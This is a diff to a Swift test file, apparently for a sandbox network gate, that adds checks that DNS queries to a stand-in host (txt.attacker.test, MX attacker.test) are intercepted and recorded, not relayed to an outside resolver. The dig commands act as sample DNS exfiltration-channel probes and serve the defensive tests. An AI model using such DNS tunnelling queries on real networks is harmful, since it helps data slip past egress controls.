@@ -111,6 +111,9 @@ final class LearnCollector: GateObserver, @unchecked Sendable {
         // Over TCP too, and a type enforce mode never forwards: learn mode forwards it (fresh) and records it.
         let tcpBypass = inSandbox("dig +tcp +time=2 +tries=1 @\(NetlabAddresses.publicResolver4) TXT txt.attacker.test")
         #expect(tcpBypass.output.contains("exfil-channel"), "\(tcpBypass.output)")
+        // MX data holds a (compressible) name: recorded by the gate, answered NODATA rather than relayed raw.
+        let mx = inSandbox("dig +time=2 +tries=1 MX attacker.test")
+        #expect(mx.output.contains("status: NOERROR") && mx.output.contains("ANSWER: 0"), "\(mx.output)")
         let hello = "import socket,ssl,sys\nc=ssl.create_default_context()\ns=socket.create_connection((sys.argv[1],443),timeout=3)\n"
             + "try: c.wrap_socket(s, server_hostname=sys.argv[2])\nexcept Exception as e: print(type(e).__name__)\n"
         try hello.write(toFile: lab.directory + "/hello.py", atomically: true, encoding: .utf8)
@@ -153,6 +156,7 @@ final class LearnCollector: GateObserver, @unchecked Sendable {
                                 && $0.resolver?.description == NetlabAddresses.publicResolver4 })
         #expect(pcap.contains { $0.isResponse && $0.transport == "tcp" && $0.name == "txt.attacker.test" && $0.answers.count == 1 })
         #expect(gateSeen.contains { $0.name == "txt.attacker.test" && $0.type == DNSType.txt && $0.transport == "tcp" && $0.answers.count == 1 })
+        #expect(gateSeen.contains { $0.name == "attacker.test" && $0.type == DNSType.mx && $0.answers.count == 1 })
         // The bypassing query went to the gate, not out: the public resolver (an attacker sink) saw nothing.
         #expect(lab.sinkRecords().filter { $0.contains(NetlabAddresses.publicResolver4) }.isEmpty)
 
